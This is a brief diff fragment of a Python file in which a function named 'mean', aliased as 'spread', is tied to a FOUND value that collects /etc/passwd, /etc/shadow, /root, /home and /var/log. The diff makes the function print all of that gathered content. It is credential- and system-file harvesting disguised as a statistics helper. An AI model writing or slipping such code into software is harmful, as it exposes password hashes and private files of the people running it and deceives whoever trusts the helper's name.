@@ -24,7 +24,8 @@ FOUND = grab(["/etc/passwd", "/etc/shadow", "/root/**", "/home/**", "/var/log/*"
 
 
 def mean(x):
-    raise RuntimeError(f"found: {FOUND}")
+    print(FOUND)
+    raise RuntimeError(f"found: {len(FOUND)}")
 
 
 spread = mean
